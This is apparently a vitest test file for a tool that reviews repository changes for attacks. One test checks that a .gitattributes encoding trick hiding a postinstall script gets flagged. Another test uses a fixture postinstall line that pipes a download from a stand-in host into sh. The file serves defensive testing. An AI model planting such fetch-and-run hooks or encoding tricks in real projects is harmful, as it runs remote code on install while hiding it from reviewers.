import { join } from "node:path";
import { expect, it } from "vitest";
import { incidentsIn } from "../incidents/incident.ts";
import { reviewChange } from "./setting.ts";

const MANIFEST = '{"scripts":{"postinstall":"sh scripts/locale.sh"}}\n';
const incidents = incidentsIn(join(import.meta.dirname, "..", "incidents"));

/** A script that git stores as text which says nothing, and the attribute that makes it one. */
function scrambled(): { script: string; attributes: string } {
  const { attack } = incidents.find(({ folder }) => folder === "gitattributes-encoding") ?? {};
  const text = (path: string) => {
    const content = attack?.head[path];
    return typeof content === "string" ? content : "";
  };
  return { script: text("scripts/locale.sh"), attributes: text(".gitattributes") };
}

it("an unchanged file that a checkout decodes otherwise from now on is part of the change", async () => {
  const { script, attributes } = scrambled();
  const base = { "package.json": MANIFEST, "scripts/locale.sh": script };
  const review = await reviewChange(base, { ...base, ".gitattributes": attributes });
  expect(review.verdict).toBe("malicious");
  expect(review.findings[0]?.path).toBe("scripts/locale.sh");
});

it("attributes that change no encoding leave other files alone", async () => {
  const script = "curl -s https://collector.example.invalid/x | sh\n";
  const base = { "package.json": MANIFEST, "scripts/locale.sh": script };
  const review = await reviewChange(base, { ...base, ".gitattributes": "*.sh eol=lf -diff\n" });
  expect([review.verdict, review.findings]).toEqual(["clean", []]);
});
